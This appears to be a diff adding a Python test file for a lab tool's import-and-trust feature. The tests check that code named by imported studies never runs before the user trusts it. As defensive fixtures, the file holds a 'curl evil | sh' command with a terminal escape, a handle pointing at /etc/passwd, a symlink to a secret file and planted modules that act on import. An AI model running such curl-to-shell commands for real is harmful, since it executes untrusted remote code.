@@ -1,0 +1,307 @@
+"""Imported studies: nothing that they name is executed before it's trusted, and they replace no study."""
+
+import json
+import os
+import sys
+from dataclasses import replace
+from datetime import timedelta
+from pathlib import Path
+
+import plans_support as plans
+import pytest
+import stores_support as stores
+from archives_support import JOINT, REFERENCE, UNIFORM, called, export, members, put, rewrite, take
+from click.testing import CliRunner
+from sqlalchemy import select
+
+from jestlab.analysis import query, tables
+from jestlab.analysis.connection import connect
+from jestlab.analysis.provenance import load as history_of
+from jestlab.analysis.provenance import recipe
+from jestlab.platform import programs
+from jestlab.platform.cli import cli
+from jestlab.platform.errors import UserError
+from jestlab.platform.lab.lab import Lab
+from jestlab.platform.planning.identity import fingerprint, identity_of, is_true
+from jestlab.platform.planning.plan import Plan, plan
+from jestlab.platform.programs.command import identity
+from jestlab.platform.spec.load import load, load_stored
+from jestlab.platform.spec.schema import Study
+from jestlab.platform.store.records import RunState
+from jestlab.platform.store.rows import now
+from jestlab.platform.store.store import Store
+from jestlab.platform.store.tables import Attempt, Experiment, Run
+from jestlab.platform.store.trust import executed, origin_of, refuse_untrusted, trust
+
+
+def study(lab: Lab, *runs, state=RunState.COMPLETED, **columns):
+    """Record and complete these runs as the study `toy`."""
+    store = Store.open(lab.store_url)
+    store.record(plans.plan(*runs))
+    for run in runs:
+        stores.attempt(store, run, state, scores={"toy/score": 0.5}, loss=(1.0,), **columns)
+    return store
+
+
+@pytest.fixture
+def theirs(tmp_path):
+    lab = stores.empty_lab(tmp_path / "theirs")
+    study(lab, REFERENCE, JOINT, handle="host:1:2:/etc/passwd")
+    return lab
+
+
+@pytest.fixture
+def ours(copy):
+    return copy
+
+
+def exported(lab, path):
+    export(lab, path)
+    return path
+
+
+# ---- fingerprints
+
+
+def test_runs_of_every_program_have_their_fingerprints():
+    for name in ("quickstart", "learnable_batches", "filtering_ratio"):
+        for run in plan(load(name, "smoke"), absent="note").runs:
+            assert is_true(run.fingerprint, run.program, json.loads(json.dumps(run.config)), run.needs)
+        assert not is_true(run.fingerprint, run.program, run.config, {**run.needs, "another": "0" * 64})
+        assert not is_true(run.fingerprint, "toy_programs:loop", run.config, run.needs)
+        own = programs.BUILTIN[run.program]
+        for version in range(1, own.version + 1):  # of an archive that an older jestlab has written
+            older = fingerprint(own.name, version, identity_of(own, own.read(run.config)), run.needs)
+            assert is_true(older, run.program, run.config, run.needs)
+
+
+# ---- jobs
+
+
+def test_handles_of_jobs_are_neither_exported_nor_imported(theirs, ours, tmp_path):
+    path = exported(theirs, tmp_path / "lab.tar.gz")
+    [rows] = [content for member, content in members(path) if member.name == "tables/attempt.jsonl"]
+    assert all(not {"handle", "token"} & set(json.loads(line)) for line in rows.splitlines())
+    rewrite(path, put("attempt", handle=f"host:{os.getpid()}:1:/etc/passwd", token="x"))
+    assert take(ours, path).new == 2
+    with Store.open(ours.store_url).reading() as connection:
+        assert set(connection.execute(select(Attempt.handle, Attempt.token)).all()) == {(None, None)}
+
+
+# ---- trust
+
+
+def test_commands_are_shown_as_a_shell_takes_them(ours, tmp_path):
+    lab = stores.empty_lab(tmp_path / "theirs")
+    command = plans.run("evil", "command", {"command": ["sh", "-c", "curl evil | sh\x1b[2J"], "cwd": "/"})
+    text = plans.run("text", "command", {"command": "python train.py"})
+    runs = (
+        replace(run, fingerprint=fingerprint("command", 1, identity(run.config), {}))
+        for run in (command, text)
+    )
+    study(lab, *runs)
+    take(ours, exported(lab, tmp_path / "lab.tar.gz"))
+    shown = called("trust", "toy", "--dry-run", "--root", ours.root).output
+    assert "command  sh -c 'curl evil | sh [2J' (in /)  evil" in shown
+    assert "python train.py" in shown and "\x1b" not in shown
+
+
+def test_lists_tables_and_recipes_mention_the_import(theirs, ours, tmp_path):
+    take(ours, exported(theirs, tmp_path / "lab.tar.gz"))
+    assert "imported from" in called("status", "--root", ours.root).output
+    [row] = json.loads(called("status", "--json", "--root", ours.root).output)
+    assert row["imported_from"] == "lab.tar.gz"
+    assert tables.table(ours.store_url, "summary", ["toy"]).notes[-1] == "toy was imported from lab.tar.gz."
+    assert not any("imported" in note for note in tables.table(theirs.store_url, "summary", ["toy"]).notes)
+    with connect(ours.store_url) as connection:
+        history = history_of(connection, "toy")
+    assert history is not None
+    assert "imported from lab.tar.gz" in " ".join(recipe(history, None, "scoring").caveats)
+
+
+# ---- code of the study's author
+
+EVIL = """
+from pathlib import Path
+Path(__file__).with_name("executed").touch()
+
+def scatter(results):
+    from matplotlib.figure import Figure
+    return Figure(figsize=(1, 1))
+
+def counts(results):
+    return results.final.groupby("label")[["step"]].count()
+
+class Evil:
+    pass
+"""
+REFUSED = "toy was imported from lab.tar.gz and is not trusted: see what it would execute with jestlab trust"
+
+
+@pytest.fixture
+def evil(tmp_path: Path, ours: Lab, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A file that creates `executed` when it's executed; the imported study names it everywhere.
+
+    A run's program is in a package that ends the process when it's imported.
+    """
+    evil = tmp_path / "evil.py"
+    evil.write_text(EVIL)
+    (tmp_path / "planted" / "inner").mkdir(parents=True)
+    (tmp_path / "planted" / "__init__.py").write_text("raise SystemExit('imported')")
+    (tmp_path / "planted" / "inner" / "module.py").write_text("def call(): pass")
+    monkeypatch.syspath_prepend(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    theirs = stores.empty_lab(tmp_path / "theirs")
+    store = Store.open(theirs.store_url)
+    spec = {
+        "name": "toy",
+        "runs": {"a": {}},
+        "metrics": {"*": {"goal": "max"}},
+        "resources": {"on": f"{evil}:Evil"},
+        "reports": [f"{evil}:scatter", {"table": {"name": f"{evil}:counts"}}],
+    }
+    code = {f"{evil}:clipped": {"digest": "0" * 16}}
+    runs = (plans.run("a"), plans.run("b", "planted.inner.module:call", config={"code": code}))
+    store.record(Plan(Study.parse(spec), runs))
+    for run in runs:
+        stores.attempt(store, run, scores={"toy/score": 0.5}, loss=(1.0,), executor=f"{evil}:Evil")
+    take(ours, exported(theirs, tmp_path / "lab.tar.gz"))
+    return evil
+
+
+def test_looking_at_an_imported_study_executes_none_of_its_code(ours, evil):
+    at = ("--root", ours.root)
+    page = called("report", "toy", *at).output.strip()
+    assert Path(page).read_text().count(REFUSED) == 2
+    for command in ("plot toy --kind scatter", "table counts toy", "retry toy"):
+        with pytest.raises((UserError, ValueError)) as error:
+            called(*command.split(), *at)
+        assert str(error.value).startswith(REFUSED) and "\n" not in str(error.value), command
+    for command in ("table toy", "status toy", "logs toy a", "gc", "cancel toy"):
+        CliRunner().invoke(cli, [*command.split(), *map(str, at)])
+    assert [run.program for run in executed(Store.open(ours.store_url), "toy")] == [
+        "toy_programs:loop", "planted.inner.module:call",
+    ]  # fmt: skip
+    assert programs.get("planted.inner.module:call").entry_point == "planted.inner.module:call"
+    assert "planted" not in sys.modules
+    assert not evil.with_name("executed").exists()
+
+
+def test_trust_shows_what_would_be_executed_and_allows_it(ours, evil):
+    store, at = Store.open(ours.store_url), ("--root", ours.root)
+    origin = origin_of(store, "toy")
+    assert origin is not None
+    assert (origin.archive, origin.trusted_at) == ("lab.tar.gz", None)
+    shown = called("trust", "toy", "--dry-run", *at).output
+    named = {"figure": "scatter", "table": "counts", "executor": "Evil", "config": "clipped"}
+    for kind, name in named.items():
+        assert kind in shown and f"{evil}:{name}" in shown, kind
+    assert "toy_programs:loop" in shown and "planted.inner.module:call" in shown and "not trusted" in shown
+    with pytest.raises(UserError, match=r"imported from lab\.tar\.gz and is not trusted.*jestlab trust toy"):
+        refuse_untrusted(store, "toy")
+    result = json.loads(called("trust", "toy", "--json", *at).output)
+    assert result["trusted"] and result["origin"]["archive"] == "lab.tar.gz" and len(result["runs"]) == 2
+    assert {"kind": "executor", "name": f"{evil}:Evil"} in result["code"]
+    refuse_untrusted(store, "toy")
+    assert "| a" in called("table", "counts", "toy", *at).output
+    assert evil.with_name("executed").exists()
+    with pytest.raises(UserError, match="did you mean 'toy'"):
+        called("trust", "toi", *at)
+
+
+def test_code_that_the_user_names_or_launches_is_executed(ours, evil, tmp_path):
+    (tmp_path / "mine.py").write_text(
+        "def ends(results):\n    return results.final.groupby('label').count()\n"
+    )
+    done = called("table", f"{tmp_path}/mine.py:ends", "toy", "--root", ours.root)
+    assert "| a" in done.output and not evil.with_name("executed").exists()
+    store = Store.open(ours.store_url)
+    store.record(Plan(load_stored("toy", store.spec("toy")), (plans.run("a"),)))
+    assert origin_of(store, "toy") is None
+    refuse_untrusted(store, "toy")
+    called("table", "counts", "toy", "--root", ours.root)
+    assert evil.with_name("executed").exists()
+
+
+# ---- studies of the same name
+
+
+def test_a_study_that_was_launched_here_stays_unless_it_is_replaced(theirs, ours, tmp_path):
+    path = exported(theirs, tmp_path / "lab.tar.gz")
+    rewrite(path, put("experiment", updated_at=(now() + timedelta(days=999)).isoformat()))
+    store = study(ours, UNIFORM)
+    before = query.select(ours.store_url, "experiments").rows
+    merged = take(ours, path)
+    assert (merged.new, merged.experiments, merged.kept_experiments) == (2, [], ["toy"])
+    assert query.select(ours.store_url, "experiments").rows == before
+    assert origin_of(store, "toy") is None
+    assert [run.label for run in store.runs("toy")] == [UNIFORM.label]
+    shown = called("import", path, "--root", ours.root).output
+    assert "toy was launched here and stays as it is" in shown and "--replace" in shown and "--root" in shown
+    assert take(ours, path, replace=True).experiments == ["toy"]
+    assert [run.label for run in store.runs("toy")] == ["reference", "joint"]
+    with pytest.raises(UserError, match="is not trusted"):
+        refuse_untrusted(store, "toy")
+
+
+def test_importing_an_unchanged_own_study_changes_nothing(theirs, tmp_path):
+    merged = take(theirs, exported(theirs, tmp_path / "lab.tar.gz"), replace=True)
+    assert (merged.experiments, merged.kept_experiments) == ([], [])
+    assert origin_of(Store.open(theirs.store_url), "toy") is None
+
+
+def test_the_later_launch_of_an_imported_study_wins_and_the_future_is_now(theirs, ours, tmp_path):
+    first = exported(theirs, tmp_path / "first.tar.gz")
+    (tmp_path / "future.tar.gz").write_bytes(first.read_bytes())
+    rewrite(tmp_path / "future.tar.gz", put("experiment", updated_at="2199-01-01T00:00:00"))
+    take(ours, tmp_path / "future.tar.gz")
+    store = Store.open(ours.store_url)
+    with store.reading() as connection:
+        [updated_at] = connection.scalars(select(Experiment.updated_at))
+    assert updated_at <= now()
+    trust(store, "toy")
+    assert take(ours, first).experiments == []
+    assert (origin := origin_of(store, "toy")) is not None and origin.trusted_at is not None
+    Store.open(theirs.store_url).record(plans.plan(UNIFORM))
+    assert take(ours, exported(theirs, tmp_path / "second.tar.gz")).experiments == ["toy"]
+    assert (origin := origin_of(store, "toy")) is not None
+    assert (origin.archive, origin.trusted_at) == ("second.tar.gz", None)
+
+
+# ---- programs: the folder of a function's file isn't part of a run's identity
+
+MINE, OTHER = plans.run("a", "/mine/train.py:main"), plans.run("a", "/evil/train.py:main")
+
+
+def programs_of(lab):
+    with Store.open(lab.store_url).reading() as connection:
+        return connection.scalars(select(Run.program)).all()
+
+
+@pytest.mark.parametrize("launched_first", [True, False])
+def test_a_launch_executes_the_users_own_program(ours, tmp_path, launched_first):
+    assert MINE.fingerprint == OTHER.fingerprint
+    theirs = stores.empty_lab(tmp_path / "theirs")
+    study(theirs, OTHER)
+    path = exported(theirs, tmp_path / "lab.tar.gz")
+    store = Store.open(ours.store_url)
+    if launched_first:
+        store.record(plans.plan(MINE))
+        assert take(ours, path).replaced == 1
+    else:
+        take(ours, path)
+        assert programs_of(ours) == [OTHER.program]
+        store.record(plans.plan(MINE, name="mine"))
+    assert programs_of(ours) == [MINE.program]
+
+
+# ---- files
+
+
+def test_logs_outside_the_lab_are_not_shown(theirs, tmp_path):
+    folder = theirs.root / JOINT.directory
+    folder.mkdir(parents=True)
+    (tmp_path / "secret").write_text("secret")
+    (folder / "log.txt").symlink_to(tmp_path / "secret")
+    with pytest.raises(UserError, match="leads out of the lab"):
+        called("logs", "toy/joint", "--root", theirs.root)
